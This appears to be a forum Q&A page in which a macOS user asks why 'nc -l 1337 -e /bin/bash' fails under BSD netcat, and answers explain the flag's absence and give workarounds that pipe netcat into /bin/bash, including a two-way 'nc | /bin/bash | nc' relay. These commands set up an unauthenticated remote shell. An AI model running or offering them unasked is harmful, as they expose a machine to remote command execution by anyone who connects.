When I try to run nc -l 1337 -e /bin/bash, it says:

nc: invalid option -- e
usage: nc [-46AacCDdEFhklMnOortUuvz] [-K tc] [-b boundif] [-i interval]
[-p source_port][--apple-delegate-pid pid] [--apple-delegate-uuid uuid]
      [-s source_ip_address] [-w timeout] [-X proxy_version]
      [-x proxy_address[:port]] [hostname] [port[s]]

I want to run commands remotely, but instead it just remotely prints text. Why is this not working and how can I fix it?

  • 1
    Mac OS is shipping with a bsd variant of netcat. I've not even found a way yet to get the version for /usr/bin/nc. But it's possible to install gnu netcat with i.e. homebrew which has this -e option. I have not found out a workaround how to get the same behaviour with the bsd nc command, or i'd add that as an answer.
    – hyph
    Mar 19, 2017 at 21:10
  • Okay. I can't do that since I'm not the owner of my Mac... :(
    – anonymous
    Mar 19, 2017 at 21:12
  • 2
    @KeeganKuhn I don't think you have to have any administrative rights. Building from the source might also be an option. Also see the client/server section in Ubuntu's netcat man page. While the version is different, the same approach should work with the FreeBSD flavour as well.
    – undercat
    Mar 20, 2017 at 4:25
  • Submit that as an answer!
    – anonymous
    Mar 28, 2017 at 0:24

2 Answers 2


You don't have to use nc -l 1337 -e /bin/bash. Instead, an alternative that works exactly the same is nc -l 1337 | /bin/bash outputs everything it receives into /bin/bash.


Or try nc target port | /bin/bash | nc target port


nc 4444 | /bin/bash | nc 4444

It will redirect what it receives from the first nc to /bin/bash and the output from /bin/bash to the second nc. It's a work-around, but it works. :)
Otherwise just install ncat.


Your Answer

By clicking “Post YourAnswer”, you agree to our terms of service, privacy policy and cookie policy

Not theanswer you're looking for? Browse other questionstagged or ask your own question.